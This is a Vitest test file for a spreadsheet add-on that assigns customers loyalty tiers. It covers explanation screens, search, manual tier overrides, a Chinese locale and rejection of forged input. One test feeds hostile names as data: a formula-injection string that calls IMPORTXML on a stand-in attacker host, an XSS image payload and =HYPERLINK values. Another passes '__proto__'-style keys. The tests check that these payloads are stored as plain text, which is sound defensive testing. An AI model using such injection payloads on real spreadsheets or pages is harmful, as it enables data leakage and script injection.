import { describe, expect, test } from 'vitest';
import type { Host } from '../../src/host';
import { cellsOf, columnsOf, formulasOf, onHost, type Table, userSheetsOf } from '../support/onHost';
import { exampleOrderRows } from '../support/orders';
import { blockIn, figureIn, rowsIn, screensOf, storyOf } from '../support/panelScreens';

const OVERRIDES = 'Tiers · Overrides';
const FIELDS = { tier: 'Gold', what: 'pin', reason: 'Old friend', whoSays: 'Mia', until: '2026-03-01' };

async function shop(orders: Table = exampleOrderRows, locale = 'en_US') {
  const host = await onHost({ Orders: orders }, { locale });
  host.menu(locale.startsWith('zh') ? '立即更新' : 'Update now');
  return { host, ...screensOf(host) };
}

const everything = (host: Host) =>
  JSON.stringify(
    userSheetsOf(
      host.book,
      host.book.sheets.map(({ name }) => name),
    ),
  );
const select = (host: Host, sheet: string, row: number, column = 0) =>
  host.ui.moveTo(host.book.sheetByName(sheet)?.id ?? -1, { row, column, rows: 1, columns: 1 });
const pointsOf = (value: string) => Number(value.split(' / ')[0]);

describe('Explain a customer', () => {
  test('tier, points that add up to the score, place, what would change it, and history', async () => {
    const { page } = await shop();
    const ana = page('explain', { about: 'Ana' });
    expect(ana.title).toBe('Ana');
    expect(figureIn(ana)).toMatchObject({ text: 'VIP', chips: ['88 points', 'place 1 of 6'], small: expect.stringContaining('0 of 6 customers score higher') });
    const { title, bars } = blockIn(ana, 'bars');
    expect(title).toBe('How the 88 points add up');
    expect(bars).toMatchObject([
      { label: 'The last order', value: '24 / 30', share: 0.8, small: 'Last order 3 days ago' },
      { label: 'How often they buy', value: '24 / 30', small: '4 orders' },
      { label: 'Spend', value: '40 / 40', share: 1, small: '1,600' },
    ]);
    expect(bars.reduce((sum, { value }) => sum + pointsOf(value), 0)).toBe(88);
    expect(
      blockIn(ana, 'rows', 'What would change it')
        .rows.map((row) => row.title)
        .join(),
    ).toMatch(/VIP is lost after \d+ days without an order/);
    expect(blockIn(ana, 'rows', 'History').rows).toMatchObject([{ title: '2025-11-21', tiers: [['VIP', 0, 4]] }]);
    expect(JSON.stringify(ana)).not.toMatch(/recency|RFM|percentile|quantile/i);
  });

  test('the parts of every customer of a story sum to the points that are shown', async () => {
    const { host, sample } = await storyOf('SC-10', { care: false });
    const { page } = screensOf(host);
    const names = [...new Set(Object.values(sample.who).flat())].slice(0, 6);
    expect(names.length).toBeGreaterThan(1);
    for (const name of names) {
      const shown = page('explain', { about: name });
      const { title = '', bars } = blockIn(shown, 'bars');
      expect([name, Math.round(bars.reduce((sum, { value }) => sum + pointsOf(value) * 100, 0))]).toEqual([
        name,
        Math.round(Number(/the ([\d.]+) points/.exec(title)?.[1]) * 100),
      ]);
    }
  });

  test('with nothing asked for it is whoever’s row is selected, in our lists and in the orders; else a search', async () => {
    const { host, page } = await shop();
    select(host, 'Tiers · Customers', 2);
    const [, , second] = cellsOf(host.book, 'Tiers · Customers');
    expect(page('explain').title).toBe(second?.[0]);
    select(host, 'Orders', 8);
    expect(page('explain').title).toBe('Deng');
    select(host, 'Orders', 40);
    const search = page('explain');
    expect(search).toMatchObject({ title: 'Explain a customer', primary: { label: 'Explain', go: { kind: 'page', page: 'explain' } } });
    expect(blockIn(search, 'fields').fields).toMatchObject([{ id: 'who', value: '' }]);
    expect(page('explainOther').title).toBe('Explain a customer');
  });

  test('a search finds by name, however it is written, and offers who is alike', async () => {
    const { page } = await shop();
    expect(page('explain', { fields: { who: ' aNA ' } }).title).toBe('Ana');
    const alike = page('explain', { fields: { who: 'e' } });
    expect(alike.title).toBe('Explain a customer');
    expect(rowsIn(alike).map(({ title }) => title)).toEqual(['Ben', 'Chloe', 'Deng', 'Emil']);
    expect(blockIn(alike, 'text').text).toBe('No customer is called “e”.');
    expect(page('explain', rowsIn(alike)[1]?.press?.go.kind === 'page' ? { about: 'chloe' } : {}).title).toBe('Chloe');
  });

  test('Show in the list leads to the customer’s row, wherever people have moved it', async () => {
    const { host, page } = await shop();
    const rows = cellsOf(host.book, 'Tiers · Customers');
    const at = rows.findIndex(([name]) => name === 'Fay') + 1;
    expect(page('explain', { about: 'Fay' }).second).toEqual({ label: 'Show in the list', go: { kind: 'show', place: { role: 'customers', cell: `A${at}` } } });
  });

  test('in a story: the complaint, what was promised, and the next action stand on the card', async () => {
    const { host, sample } = await storyOf('SC-07');
    const { page } = screensOf(host);
    const fell = page('explain', { about: sample.who.fell?.[0] ?? Object.values(sample.who)[0]?.[0] });
    const lines = blockIn(fell, 'rows', 'Contact and promises').rows;
    expect(lines.some(({ title }) => /complaint|feedback/i.test(title))).toBe(true);
    expect(lines.at(-1)).toMatchObject({ icon: 'heart', title: expect.stringMatching(/\S/) });
  });

  test('before the first update it explains already, and leads to the update', async () => {
    const host = await onHost({ Orders: exampleOrderRows });
    const ana = screensOf(host).page('explain', { about: 'Ana' });
    expect(ana).toMatchObject({ title: 'Ana', primary: { label: 'Make my tiers', go: { kind: 'update' } } });
    expect(ana.second).toBeUndefined();
  });

  test('in Chinese, with the same figures and no English left', async () => {
    const { page } = await shop(exampleOrderRows, 'zh_CN').then(({ host }) => {
      host.user = { email: 'li@example.com', locale: 'zh-CN' };
      return screensOf(host);
    });
    const ana = page('explain', { about: 'Ana' });
    expect(figureIn(ana)).toMatchObject({ text: 'VIP', chips: ['88 分', '第 1 名，共 6 名'] });
    expect(JSON.stringify(ana.blocks.map((block) => ('title' in block ? block.title : '')))).not.toMatch(/[a-z]{3,}/i);
  });
});

describe('Set the tier by hand', () => {
  test('writes the row, offers the update, and counts from then on', async () => {
    const { host, page, act } = await shop();
    expect(page('override', { about: 'fay' })).toMatchObject({
      title: 'Set the tier by hand',
      primary: { go: { kind: 'do', action: 'setOverride', about: 'fay' } },
    });
    const done = act('setOverride', { about: 'fay', fields: FIELDS });
    expect(done.page).toMatchObject({
      title: 'Fay',
      primary: { label: 'Update now', go: { kind: 'update' } },
      second: { go: { place: { role: 'overrides', cell: 'B2' } } },
    });
    expect(cellsOf(host.book, OVERRIDES)[1]?.slice(0, 6)).toEqual(['Fay', 'pin', 'Gold', 'Old friend', 'Mia', '2026-03-01']);
    host.menu('Update now');
    expect(columnsOf(host.book, 'Tiers · Customers', 'Customer', 'Tier').find(([name]) => name === 'Fay')).toEqual(['Fay', 'Gold']);
    expect(figureIn(page('explain', { about: 'fay' }))?.small).toContain('Set by hand: exactly Gold until 2026-03-01, by Mia. Reason: Old friend');
  });

  test('the customer’s own row is changed, not doubled, and says what stands in it', async () => {
    const { host, page, act } = await shop();
    act('setOverride', { about: 'fay', fields: FIELDS });
    host.edit(`${OVERRIDES}!A3`, 'Ben');
    expect(blockIn(page('override', { about: 'fay' }), 'fields').fields.map(({ value }) => value)).toEqual(['Gold', 'pin', 'Old friend', 'Mia', '2026-03-01']);
    act('setOverride', { about: 'fay', fields: { tier: 'VIP', what: 'floor', reason: '', whoSays: '', until: '' } });
    expect(
      cellsOf(host.book, OVERRIDES)
        .map((row) => row.slice(0, 6))
        .slice(1),
    ).toEqual([
      ['Fay', 'floor', 'VIP', '', '', ''],
      ['Ben', '', '', '', '', ''],
    ]);
  });

  test('taken back: the rules decide from the next update on, and the row stays with its reason', async () => {
    const { host, page, act } = await shop();
    const tierOfFay = () => columnsOf(host.book, 'Tiers · Customers', 'Customer', 'Tier').find(([name]) => name === 'Fay')?.[1];
    const alone = tierOfFay();
    expect(page('override', { about: 'fay' }).second).toBeUndefined();
    act('setOverride', { about: 'fay', fields: FIELDS });
    host.menu('Update now');
    expect([tierOfFay(), alone === 'Gold']).toEqual(['Gold', false]);
    expect(page('override', { about: 'fay' }).second).toMatchObject({ label: 'Let the rules decide', go: { kind: 'do', action: 'endOverride', about: 'fay' } });
    expect(act('endOverride', { about: 'fay', fields: {} }).page).toMatchObject({ title: 'Fay', primary: { go: { kind: 'update' } } });
    host.menu('Update now');
    expect(tierOfFay()).toBe(alone);
    const [name, what, tier, reason] = cellsOf(host.book, OVERRIDES)[1] ?? [];
    expect([name, what, tier, reason]).toEqual(['Fay', 'pin', 'Gold', 'Old friend']);
    expect(page('override', { about: 'fay' }).second).toBeUndefined();
  });

  test('nothing to take back: a sentence, and nothing is written', async () => {
    const { host, tried } = await shop();
    const before = everything(host);
    for (const about of ['fay', 'nobody', ''])
      expect(tried('ui_do', 'endOverride', { about, fields: {} })).toMatchObject({ ok: false, error: { code: 'GONE' } });
    expect(everything(host)).toBe(before);
  });

  test('of a customer with two rows nobody knows which is meant: the sheet is shown instead', async () => {
    const { host, page, tried } = await shop();
    host.menu('Set a tier by hand');
    for (const row of [2, 3]) host.edit(`${OVERRIDES}!A${row}`, 'Fay');
    const before = everything(host);
    expect(page('override', { about: 'fay' })).toMatchObject({ primary: { go: { kind: 'show', place: { role: 'overrides' } } } });
    expect(tried('ui_do', 'setOverride', { about: 'fay', fields: FIELDS })).toMatchObject({ ok: false, error: { code: 'SEVERAL', fix: { kind: 'show' } } });
    expect(everything(host)).toBe(before);
  });

  test.each<[why: string, wanted: unknown]>([
    ['a customer who is not in our list', { about: 'Nobody', fields: FIELDS }],
    ['no customer', { about: '', fields: FIELDS }],
    ['a tier the rules do not have', { about: 'fay', fields: { ...FIELDS, tier: '=1+1' } }],
    ['no tier', { about: 'fay', fields: {} }],
    ['a kind there is not', { about: 'fay', fields: { ...FIELDS, what: 'mayLeave' } }],
    ['a day in the past', { about: 'fay', fields: { ...FIELDS, until: '2020-01-01' } }],
    ['a day that is none', { about: 'fay', fields: { ...FIELDS, until: '2026-02-30' } }],
    ['a field that is no text', { about: 'fay', fields: { ...FIELDS, reason: 5 } }],
    ['more than the door takes', { about: 'fay', fields: FIELDS, role: 'overrides' }],
    ['a very long customer', { about: 'x'.repeat(5000), fields: FIELDS }],
    ['nothing', undefined],
  ])('forged: %s gets a sentence and writes nothing', async (_, wanted) => {
    const { host, tried } = await shop();
    const before = everything(host);
    expect(tried('ui_do', 'setOverride', wanted)).toMatchObject({ ok: false, error: { message: expect.stringMatching(/\S{2}/) } });
    expect(everything(host)).toBe(before);
  });
});

test('hostile names and reasons come out as they were, and no cell of ours becomes a formula', async () => {
  const names = ['=IMPORTXML("http://attacker.invalid",A1)', '<img src=x onerror=alert(1)>', '+1+1', '{name}', '＝1+1'];
  const rows = names.map((name, at): Table[number] => [name, '2025-11-01', 10 * (at + 1)]);
  const { host, page, act } = await shop([['Customer', 'Date', 'Amount'], ...rows]);
  for (const [at, name] of names.entries()) {
    const listed = page('explain', { about: name });
    expect(listed.title).toBe(name);
    const about = listed.primary?.go.kind === 'page' ? listed.primary.go.about : undefined;
    act('setOverride', { about, fields: { ...FIELDS, reason: name, whoSays: `=HYPERLINK("x")${at}` } });
  }
  expect(
    cellsOf(host.book, OVERRIDES)
      .slice(1)
      .map((row) => row.slice(0, 4)),
  ).toEqual(names.map((name) => [name, 'pin', 'Gold', name]));
  expect(formulasOf(host.book, OVERRIDES)).toEqual([]);
});

test('a screen writes nothing, whatever it is asked for', async () => {
  const { host, tried } = await shop();
  const before = everything(host);
  for (const name of ['explain', 'explainOther', 'override', 'dataCheck', 'watch', 'care', 'planner', 'fairness', 'risk'])
    for (const wanted of [
      {},
      { about: 'Ana' },
      { about: '=1+1' },
      { about: '__proto__', fields: { who: '<b>', column: 'constructor', hours: 'x' } },
      { about: 7 },
      null,
      'x',
    ]) {
      tried('ui_page', name, wanted);
      expect([name, wanted, host.executions.at(-1)?.writes ?? 0]).toEqual([name, wanted, 0]);
    }
  expect(everything(host)).toBe(before);
});
